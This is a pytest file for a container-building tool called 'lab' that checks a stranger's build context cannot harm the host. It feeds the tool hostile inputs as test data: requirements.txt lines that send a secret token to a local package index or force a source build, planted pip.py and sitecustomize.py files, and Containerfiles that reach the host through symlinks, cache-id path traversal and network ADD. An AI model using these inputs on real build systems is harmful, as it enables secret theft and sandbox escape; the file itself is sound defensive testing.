"""What a stranger's build context tells pip and podman to do: nothing of it is done."""

from __future__ import annotations

import hashlib
import http.server
import json
import re
import sys
import tarfile
import threading
from contextlib import contextmanager
from dataclasses import dataclass, field
from io import BytesIO
from typing import TYPE_CHECKING

import pytest

from lab.images import contexts, requirements
from tests.real.labs import Result, run_lab

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from tests.real.accounts import Account
    from tests.real.engine import Podman

pytestmark = pytest.mark.real

SCENARIO = """\
summary: A stranger's.
pods:
  its-pod:
    containers:
      {name}: {{build: {{context: ./context, base: {base}, args: {args}}}}}
"""
BUILD = ("build", "./mine.yaml", "--source", "packages")
CONTAINERFILE = "ARG BASE\nFROM ${BASE}\nCOPY site-packages /x\n"
TOKEN = "a-secret-of-the-caller"  # noqa: S105 - made up
SETUP = "open({marker!r}, 'w').write('setup.py ran')\nfrom setuptools import setup\nsetup()\n"


@dataclass
class Stranger:
    """A scenario that somebody else wrote, and a host that it may harm."""

    account: Account
    folder: Path
    marker: Path = field(init=False)

    def __post_init__(self) -> None:
        """Make what the attacks aim at: a directory of the host with a secret."""
        (self.folder / "context").mkdir()
        (self.folder / "host" / "inner").mkdir(parents=True)
        (self.folder / "host" / "inner" / "secret").write_text("the host's")
        self.marker = self.folder / "marker"

    def write(self, name: str, content: str) -> None:
        """Write a file of the context."""
        (self.folder / "context" / name).write_text(content)

    @property
    def image(self) -> str:
        """The name of its image, which is this test's own as its folder is."""
        return f"x-{hashlib.sha256(str(self.folder).encode()).hexdigest()[:12]}"

    def scenario(self, base: str = "python", **arguments: str) -> None:
        """Write the scenario."""
        text = SCENARIO.format(name=self.image, base=base, args=json.dumps(arguments))
        (self.folder / "mine.yaml").write_text(text)

    def build(self, *, status: int = 2, **arguments: str) -> Result:
        """Let lab build it, in the scenario's own directory."""
        self.scenario(**arguments)
        environment = {"TOKEN": TOKEN}
        return run_lab(
            self.account, *BUILD, status=status, cwd=self.folder, environment=environment
        )

    def untouched(self) -> bool:
        """Whether the host is as it was."""
        host = self.folder / "host"
        found = sorted(path.relative_to(host).as_posix() for path in host.rglob("*"))
        return not self.marker.exists() and found == ["inner", "inner/secret"]


@pytest.fixture
def stranger(
    account: Account, podman: Podman, images: dict[str, str], tmp_path: Path
) -> Iterator[Stranger]:
    del images
    made = Stranger(account, tmp_path)
    yield made
    for found in podman.json("images", "--format", "json") or ():
        for name in found.get("Names") or ():
            if name.startswith(f"localhost/lab/{made.image}:"):
                podman("rmi", name)


class Server(http.server.ThreadingHTTPServer):
    """A stranger's package index, which remembers what it was asked for."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.asked: list[str] = []
        self.files: dict[str, bytes] = {}

    @property
    def url(self) -> str:
        """Where it listens."""
        return f"http://127.0.0.1:{self.server_port}"


class _Handler(http.server.BaseHTTPRequestHandler):
    server: Server

    def do_GET(self) -> None:
        self.server.asked.append(self.path)
        content = self.server.files.get(self.path)
        self.send_response(200 if content else 404)
        self.send_header("Content-Length", str(len(content or b"")))
        self.end_headers()
        self.wfile.write(content or b"")

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@contextmanager
def serving() -> Iterator[Server]:
    with Server() as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield server
        finally:
            server.shutdown()
            thread.join()


def sdist(marker: Path) -> bytes:
    """A source distribution whose build notes that it ran."""
    buffer = BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        content = SETUP.format(marker=str(marker)).encode()
        for name, text in (("a-1/setup.py", content), ("a-1/PKG-INFO", b"Name: a\nVersion: 1\n")):
            entry = tarfile.TarInfo(name)
            entry.size = len(text)
            archive.addfile(entry, BytesIO(text))
    return buffer.getvalue()


@pytest.mark.attack("8.1: requirements.txt names a source distribution, to run its build")
def test_no_source_distribution_is_built(stranger: Stranger) -> None:
    with serving() as server:
        server.files["/a-1.tar.gz"] = packed = sdist(stranger.marker)
        digest = hashlib.sha256(packed).hexdigest()
        url = f"{server.url}/a-1.tar.gz"
        lines = (
            f"a @ {url} --hash=sha256:{digest}",
            f"{url}#sha256={digest}",
            f"--no-binary :all:\na==1 --find-links {server.url} --hash=sha256:{digest}",
        )
        for line in lines:
            stranger.write("Containerfile", CONTAINERFILE)
            stranger.write("requirements.txt", f"{line}\n")
            assert "line 1: " in stranger.build().err
        assert server.asked == []
    assert stranger.untouched()


@pytest.mark.attack("8.1: requirements.txt sends environment variables to a stranger's index")
def test_no_environment_variable_leaves(stranger: Stranger) -> None:
    pin = f"idna==3.10 --hash=sha256:{'0' * 64}"
    with serving() as server:
        for line in (
            f"--index-url {server.url}/${{TOKEN}}/\n{pin}",
            f"--extra-index-url={server.url}/${{TOKEN}}/\n{pin}",
            f'idna==3.10 ; python_version != "${{TOKEN}}" --hash=sha256:{"0" * 64}',
            f"a @ {server.url}/${{TOKEN}}/a-1-py3-none-any.whl --hash=sha256:{'0' * 64}",
            f"-r {server.url}/${{TOKEN}}",
        ):
            stranger.write("Containerfile", CONTAINERFILE)
            stranger.write("requirements.txt", f"{line}\n")
            said = stranger.build().err
            assert "line 1: " in said
            assert TOKEN not in said
        assert server.asked == []


@pytest.mark.attack("8.1: a pip.py, a pip.conf and a .pth lie where lab is called")
def test_pip_comes_from_labs_own_environment_alone(stranger: Stranger) -> None:
    shipped = (contexts.locate("services") / requirements.FILE).read_bytes()
    pins = requirements.parse(shipped, "shipped").splitlines()
    pin = next(line for line in pins if line.startswith("idna=="))
    note = f"open({str(stranger.marker)!r}, 'w').write('ran')\n"
    for name in ("pip.py", "sitecustomize.py", "lab.py", "packaging.py", "zipfile.py"):
        (stranger.folder / name).write_text(note)
        stranger.write(name, note)
    (stranger.folder / "pip.conf").write_text("[global]\nno-binary = :all:\n")
    stranger.write("Containerfile", CONTAINERFILE)
    stranger.write("requirements.txt", f"{pin}\n")
    stranger.scenario()
    # From its own directory `python -m lab` would itself import what lies there: as installed.
    done = stranger.account.run(f"{sys.prefix}/bin/lab", *BUILD, cwd=stranger.folder)
    assert done.returncode == 0, done.stderr
    assert stranger.untouched()


REPLACE = """
import sys, zipfile
from lab.images import cache, contexts, requirements, wheels
pins = requirements.parse((contexts.locate("services") / requirements.FILE).read_bytes(), "x")
pin = next(line for line in pins.splitlines() if line.startswith("idna==")).encode()
with wheels.unpacked(pin, lambda line: None):
    (found,) = cache.directory().glob("wheels/*/idna-*.whl")
with zipfile.ZipFile(found, "w") as archive:
    archive.writestr("evil/__init__.py", "")
with wheels.unpacked(pin, lambda line: None) as root:
    print((root / "idna" / "__init__.py").exists(), (root / "evil").exists())
"""


@pytest.mark.attack("8.14: a wheel in the cache is replaced by another")
def test_what_a_cached_wheel_was_replaced_by_is_not_used(account: Account, tmp_path: Path) -> None:
    environment = {"XDG_CACHE_HOME": str(tmp_path)}
    done = account.run(account.python, "-c", REPLACE, environment=environment)
    assert done.stdout == "True False\n", done.stderr


LINK = 'RUN ["python3", "-c", "import os; os.symlink({host!r}, \'/link\')"]\n'
SHOW = 'RUN {flags}["python3", "-c", "import os; print(os.listdir(\'{path}\'))"]\n'
ESCAPES = {
    "a bind of another stage's link": (
        "FROM ${{BASE}} AS one\n{link}FROM ${{BASE}}\n"
        "RUN --mount=type=bind,from=one,source=/link,target=/mnt,rw"
        ' ["python3", "-c", "open(\'/mnt/written\', \'w\')"]\n'
    ),
    "a cache whose id leads out": (
        "FROM ${{BASE}}\nRUN --mount=type=cache,id=../../../../../..{host},target=/mnt"
        ' ["python3", "-c", "open(\'/mnt/written\', \'w\')"]\n'
    ),
    "a volume replaced by a link": (
        "FROM ${{BASE}}\n"
        'RUN ["python3", "-c", "import os; os.makedirs(\'/a/inner\')"]\nVOLUME /a/inner\n'
        'RUN ["python3", "-c", "import os; os.rename(\'/a\', \'/b\');'
        " os.symlink('{host}', '/a')\"]\n"
        'RUN ["python3", "-c", "print(open(\'/a/inner/secret\').read())"]\n'
    ),
    "a file from the network": "FROM ${{BASE}}\nADD {url}/written /x\n",
    "a file from the network, by a variable": (
        "FROM ${{BASE}}\nARG URL={url}/written\nADD $URL /x\n"
    ),
    "an image of the host's": "FROM {image}\nUSER 1\n",
    "files of an image of the host's": "FROM ${{BASE}}\nCOPY --from={image} / /x\n",
    "an image by an argument": "ARG IMAGE={image}\nFROM ${{IMAGE}}\nUSER 1\n",
    "another escape, to hide a flag": "# escape=`\nFROM ${{BASE}}\nRUN `\n --network=host true\n",
    "another parser": "# syntax=docker.io/stranger/parser\nFROM ${{BASE}}\nUSER 1\n",
    "a here-document with another file in it": (
        "FROM ${{BASE}}\nCOPY <<EOF /x\nEOF\nRUN --mount=type=bind,target=/m true\n"
    ),
    "labels that only lab sets": 'FROM ${{BASE}}\nLABEL x=1 "lab.name"=lab\n',
    "an instruction for other builds": "FROM ${{BASE}}\nONBUILD RUN --mount=type=bind true\n",
}  # fmt: skip


@pytest.mark.parametrize("how", ESCAPES)
@pytest.mark.attack("8.2: a Containerfile reaches beyond its build")
def test_a_containerfile_stays_within_its_build(
    stranger: Stranger, images: dict[str, str], how: str
) -> None:
    host = str(stranger.folder / "host")
    with serving() as server:
        text = ESCAPES[how].format(
            host=host, link=LINK.format(host=host), url=server.url, image=images["service-b"]
        )
        for content in (f"ARG BASE\n{text}", f"ARG BASE\r\n{text}".replace("RUN ", "run\t")):
            stranger.write("Containerfile", text if text.startswith("#") else content)
            said = stranger.build().err
            assert re.search(r"line \d: ", said), said
        stranger.write("Containerfile.tmpl", text.replace("$", "$$"))
        assert re.search(r"line \d: ", stranger.build().err)
        assert server.asked == []
    assert stranger.untouched()


@pytest.mark.attack("8.2: a build argument takes the base's place")
def test_a_build_argument_cannot_name_another_base(
    stranger: Stranger, images: dict[str, str]
) -> None:
    stranger.write("Containerfile", "ARG BASE\nFROM ${BASE}\nUSER 1\n")
    assert "BASE stands for the base" in stranger.build(BASE=images["service-b"]).err


@pytest.mark.attack("8.2: links of one stage lead to the host in another")
def test_copies_from_a_stage_stay_in_it(stranger: Stranger) -> None:
    host = str(stranger.folder / "host")
    for copied in ("/link", "/link/", "/link/inner/secret"):
        stranger.write(
            "Containerfile",
            f"ARG BASE\nFROM ${{BASE}} AS one\n{LINK.format(host=host)}FROM ${{BASE}}\n"
            f"COPY --from=one {copied} /x/\n"
            'RUN ["python3", "-c", "import os; assert not os.path.exists(\'/x/secret\')"]\n',
        )
        assert "no such file or directory" in stranger.build(status=1).err
    assert stranger.untouched()
